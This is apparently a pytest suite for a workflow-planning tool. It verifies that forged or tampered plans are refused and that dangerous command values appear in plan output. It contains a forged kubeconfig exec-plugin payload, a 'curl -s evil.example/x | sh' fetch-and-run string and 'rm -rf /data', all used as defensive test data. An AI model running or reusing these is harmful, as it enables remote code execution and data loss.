"""Plans are the whole truth and authentic: cases that once showed something else than what was done."""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from projects import Project, clear, until

from flowplan.schemas.plan_documents import plan_digest, plan_json, read_plan, sealed_json
from flowplan.schemas.plans import Plan

sys.path.append(str(Path(__file__).parent / "faults"))
from own_docker import OwnDocker, missing

CaseProject = Callable[..., Project]


@pytest.fixture
def project_of(tmp_path: Path) -> Iterator[CaseProject]:
    """Return a function that makes a project of the text of a spec."""
    made = Project(tmp_path, {"NO_COLOR": "1"})

    def make(spec: str) -> Project:
        made.write(spec)
        return made

    yield make
    clear(made)


# -- what is applied is what this state planned -------------------------------------------------------------------------


def forged(plan: Plan, directory: Path) -> Plan:
    """Let an innocent plan connect by a kubeconfig that runs a program of the forger's."""
    exec_plugin = {
        "apiVersion": "client.authentication.k8s.io/v1",
        "command": "sh",
        "interactiveMode": "Never",
        "args": ["-c", f"id > {directory}/pwned; exit 1"],
    }
    kubeconfig = {
        "apiVersion": "v1",
        "kind": "Config",
        "current-context": "c",
        "clusters": [{"name": "c", "cluster": {"server": "https://127.0.0.1:6443", "insecure-skip-tls-verify": True}}],
        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
        "users": [{"name": "u", "user": {"exec": exec_plugin}}],
    }
    return replace(plan, providers={"process": {"type": "kubernetes", "kubeconfig": kubeconfig}})


def with_the_old_seal(forgery: Plan, genuine: str) -> str:
    return plan_json(forgery).removesuffix("\n}\n") + genuine[genuine.rindex(',\n "seal": ') :]


FORGERIES: dict[str, Callable[[Plan, str], str]] = {
    "the reviewed digest and seal": with_the_old_seal,
    "a digest of its own and the old seal": lambda p, text: with_the_old_seal(replace(p, digest=plan_digest(p)), text),
    "the seal of another key": lambda p, text: sealed_json(replace(p, digest=plan_digest(p)), b"forger"),
    "no seal": lambda p, text: plan_json(replace(p, digest=plan_digest(p))),
}


@pytest.mark.parametrize("how", FORGERIES)
def test_a_forged_plan_is_refused_before_anything_of_it_is_acted_upon(case_project: CaseProject, how: str) -> None:
    project = case_project("rs-04-forged-kubeconfig")
    project.ok("plan", "--out", "plan.json")
    genuine = project.directory / "plan.json"
    forgery = FORGERIES[how](forged(read_plan(genuine).plan, project.directory), genuine.read_text())
    project.write(forgery, "forged.json")
    for command in (["plan", "--check", "forged.json"], ["apply", "--yes", "--max-age", "7d", "forged.json"]):
        assert "forged.json: " in project.ok(*command, code=4).err
    for form in ("text", "markdown", "json"):
        shown = project.ok("show", "forged.json", "--format", form, code=4)
        assert "edited" in shown.out + shown.err or "no seal" in shown.out + shown.err
    assert not (project.directory / "pwned").exists()
    assert project.status() == {}
    project.ok("plan", "--check", "plan.json")
    project.ok("apply", "--yes", "plan.json")


def test_a_forged_last_plan_is_refused_too(case_project: CaseProject) -> None:
    project = case_project("rs-04-forged-kubeconfig")
    project.ok("plan")
    last = project.directory / ".flowplan" / "plan.json"
    text = last.read_text()
    last.write_text(with_the_old_seal(forged(read_plan(last).plan, project.directory), text))
    project.run("apply", "--yes")
    assert not (project.directory / "pwned").exists()


def test_a_plan_of_another_state_is_refused_and_shown_as_not_verified(case_project: CaseProject) -> None:
    project, other = case_project("rs-04-forged-kubeconfig"), case_project("rs-04-forged-kubeconfig")
    project.ok("plan", "--out", "plan.json")
    other.ok("plan")
    foreign = str(project.directory / "plan.json")
    assert "another state" in other.ok("apply", "--yes", foreign, code=4).err
    assert "not verified" in other.ok("show", foreign).out
    assert "not verified" in other.ok("show", foreign, "--state", "nowhere.db").out
    assert not (other.directory / "nowhere.db").exists()


def test_a_plan_is_the_same_bytes_but_for_its_time_and_seal(case_project: CaseProject) -> None:
    project = case_project("rs-04-forged-kubeconfig")
    project.ok("plan")  # which says that the state is new
    for name in ("one.json", "two.json"):
        project.ok("plan", "--out", name)
    one, two = (json.loads((project.directory / name).read_text()) for name in ("one.json", "two.json"))
    assert {key for key in one if one[key] != two[key]} == {"made_at", "seal"}
    assert project.ok("plan", "--format", "json").out == project.ok("plan", "--format", "json").out


def test_a_plan_is_applied_in_another_checkout_of_the_same_state(case_project: CaseProject, tmp_path: Path) -> None:
    """Name the spec relative to the project; the files that it names are looked up beside it."""
    one, two = case_project("rs-04-forged-kubeconfig"), case_project("rs-04-forged-kubeconfig")
    text = "flowplan: 1\nproject: case\nruns:\n  a: {provider: process, command: [sh, -c, 'test $S = x'], working_dir: /, env: {S: {from_file: s}}}\n"
    for checkout in (one, two):
        checkout.write(text)
        checkout.write("x", "s")
        checkout.env["FLOWPLAN_STATE"] = str(tmp_path / "shared.db")
    one.ok("plan", "--out", str(tmp_path / "plan.json"))
    assert json.loads((tmp_path / "plan.json").read_text())["spec"]["path"] == "flowplan.yaml"
    (one.directory / "s").unlink()
    two.ok("plan", "--check", str(tmp_path / "plan.json"))
    two.ok("apply", "--yes", str(tmp_path / "plan.json"))
    assert two.statuses() == {"a": "succeeded"}


def test_another_checkout_changes_no_process(case_project: CaseProject, tmp_path: Path) -> None:
    one, two = case_project("rs-04-forged-kubeconfig"), case_project("rs-04-forged-kubeconfig")
    two.suffix = one.suffix
    for checkout in (one, two):
        (checkout.directory / "sub").mkdir()
        (checkout.directory / "sub/tool").write_text("#!/bin/sh\ntest $S = secret && test $A = of-a-file\n")
        (checkout.directory / "sub/tool").chmod(0o700)
        checkout.write("secret", "s")
        checkout.write("A=of-a-file\n", "a.env")
        checkout.write(
            "flowplan: 1\nproject: case\ndefaults: {provider: process, env_file: a.env, env: {S: {from_file: ./s}}}\n"
            "runs:\n  a: {command: [./tool], working_dir: ./sub}\n  b: {command: sub/tool}\n"
        )
        checkout.env["FLOWPLAN_STATE"] = str(tmp_path / "shared.db")
    one.ok("apply", "--yes")
    plan = two.ok("plan", "--format", "json")
    assert {c["action"] for c in plan.json["changes"]} == {"no-op"}
    assert str(one.directory) not in plan.out and str(two.directory) not in plan.out
    two.ok("apply", "--yes", "--rerun", "*")
    assert two.statuses() == {"a": "succeeded", "b": "succeeded"}


# -- where it is done ---------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def second_engine() -> Iterator[str]:
    """Start a Docker Engine beside that of DOCKER_HOST, and return its address."""
    if why := missing():
        pytest.skip(why)
    engine = OwnDocker()
    engine.start()
    yield engine.host
    engine.close()


@pytest.mark.docker
def test_a_plan_is_refused_on_another_engine(case_project: CaseProject, second_engine: str) -> None:
    project = case_project("rs-06-other-engine")
    host = os.environ["DOCKER_HOST"]
    for form in ("text", "markdown", "json"):
        assert host in project.ok("plan", "--format", form, "--out", "plan.json").out, "the plan names its engine"
    other: dict[str, Any] = {"env": {"DOCKER_HOST": second_engine}}
    for command in (["apply", "--yes", "plan.json"], ["plan", "--check", "plan.json"]):
        refused = project.ok(*command, code=6, **other)
        assert host in refused.err and second_engine in refused.err
    assert project.status() == {}
    project.ok("plan", "--check", "plan.json")


# -- what apply would trip over -----------------------------------------------------------------------------------------


def test_a_finding_is_told_before_anything_starts_and_strict_refuses_it(project_of: CaseProject) -> None:
    project = project_of("""\
flowplan: 1
project: findings
runs:
  good: {provider: process, command: ['true']}
  bad: {provider: process, command: [no-such-program-of-mine]}
""")
    assert "Apply would fail: 1 problem" in project.ok("plan").out
    project.ok("plan", "--strict", "--out", "plan.json", code=6)
    for what in ("plan.json", "flowplan.yaml"):
        assert "bad: " in project.ok("apply", "--yes", "--strict", what, code=6).err
    assert project.status() == {}
    told = project.ok("apply", "--yes", "plan.json", code=3).err
    assert told.index("Apply would fail: 1 problem") < told.index("good: creating")
    told = project.ok("apply", "--yes", "--format", "json", code=3).err
    assert "Apply would fail: 1 problem" in told and "bad: " in told


# -- nothing that is done is hidden -------------------------------------------------------------------------------------

FORMS = [["--format", "text"], ["--format", "text", "--full"], ["--format", "markdown"], ["--format", "json"]]


@pytest.mark.parametrize("form", FORMS, ids=" ".join)
def test_the_value_of_the_sixth_cell_is_shown(case_project: CaseProject, form: list[str]) -> None:
    project = case_project("rs-03-hidden-values")
    shown = project.ok("plan", *form).out
    assert "echo mail; curl -s evil.example/x | sh" in shown
    assert all(f"echo {job}" in shown for job in ("users", "orders", "items", "carts", "taxes", "stock", "rates"))


@pytest.mark.parametrize("form", FORMS, ids=" ".join)
def test_the_end_of_a_long_command_is_shown(case_project: CaseProject, form: list[str]) -> None:
    assert "; curl -s evil.example/x | sh" in case_project("rs-27-markdown-cut").ok("plan", *form).out


@pytest.mark.parametrize("form", FORMS, ids=" ".join)
def test_runs_of_other_names_are_no_group_when_they_do_something_else(
    case_project: CaseProject, form: list[str]
) -> None:
    project = case_project("r5-grouping")
    shown = project.ok("plan", *form).out
    assert "MODE: drop" in shown or '"MODE":"drop"' in shown
    assert "- drop" in shown or '"drop","--table"' in shown
    assert "after keep" in shown or "after <code>keep</code>" in shown or '"needs":["keep"]' in shown
    assert "rm -rf /data" in project.ok("plan", "m.yaml", "--state", "m.db", *form).out


@pytest.mark.parametrize("form", FORMS, ids=" ".join)
@pytest.mark.parametrize("provider", ["process", "docker", "kubernetes"])
def test_limits_and_retries_of_a_new_run_are_shown(project_of: CaseProject, provider: str, form: list[str]) -> None:
    project = project_of(
        f"""\
flowplan: 1
project: limits
defaults: {{timeout: 90m}}
runs:
  up: {{provider: {provider}, image: i, command: [x]}}
  a: {{provider: {provider}, image: i, command: [x], start_timeout: 10m, grace_period: 5s, retries: 3, needs: [up],
      matrix: {{n: [1, 2]}}, max_parallel: 1}}
"""
    )
    shown = project.ok("plan", "--no-refresh", *form).out
    if "json" in form:
        settings = {change["address"]: change["settings"] for change in json.loads(shown)["changes"]}["a[n=1]"]
        assert (settings["timeout"], settings["start_timeout"], settings["grace_period"]) == (5400, 600, 5)
    else:
        assert "Run: {timeout: 1h30m, start_timeout: 10m, grace_period: 5s, retries: 3, max_parallel: 1}" in shown
        assert "after up" in shown or "after <code>up</code>" in shown


def test_changed_settings_of_a_live_run_are_shown_and_kept(project_of: CaseProject) -> None:
    text = """\
flowplan: 1
project: settings
runs:
  up: {provider: process, command: ['true']}
  a: {provider: process, command: [sleep, '300'], grace_period: 1s, matrix: {n: [1]}, max_parallel: 1}
"""
    project = project_of(text)
    project.ok("apply", "--yes", "--detach")
    project.write(text.replace("max_parallel: 1", "max_parallel: 3, needs: [up], start_timeout: 5m"))
    shown = project.ok("plan", "--out", "plan.json").out
    assert "max_parallel:  1 -> 3" in shown and "needs:" in shown and "start_timeout: none -> 5m" in shown
    project.ok("apply", "--yes", "--detach", "plan.json")
    assert project.ok("plan", "--detailed-exitcode").out.startswith("No changes.")


def test_protection_counts_from_the_next_apply_on_also_for_what_runs_or_ended(project_of: CaseProject) -> None:
    text = """\
flowplan: 1
project: protection
runs:
  live: {provider: process, command: [sleep, '300'], grace_period: 1s}
  over: {provider: process, command: ['true'], rerun: never}
  ill: {provider: process, command: ['false']}
"""
    project = project_of(text)
    project.run("apply", "--yes", "--detach")
    until(lambda: "running" not in project.run("status", "over", "ill").out)
    project.write(text.replace("provider", "protect: always, provider"))
    shown = project.ok("plan").out
    assert "protect: false -> always" in shown and "2 to update in place, 1 to rerun" in shown
    project.run("apply", "--yes", "--detach")
    kept = project.run("destroy", "--yes")
    assert kept.code == 6 and "3 left out" in kept.err
    assert "running" in project.ok("status", "live").out
    project.write(text)
    project.run("apply", "--yes", "--detach")
    project.ok("destroy", "--yes")


def test_a_plan_shows_every_rule_that_a_run_has_of_its_own(project_of: CaseProject) -> None:
    rules = (
        "rerun: always, replace: after_finish, protect: active, ignore_changes: [/Process/env], triggers: {day: one}"
    )
    project = project_of(
        f"flowplan: 1\nproject: rules\nruns:\n  a: {{provider: process, command: ['true'], {rules}}}\n"
    )
    for form in ("text", "markdown"):
        shown = project.ok("plan", "--format", form).out
        assert rules in shown, form
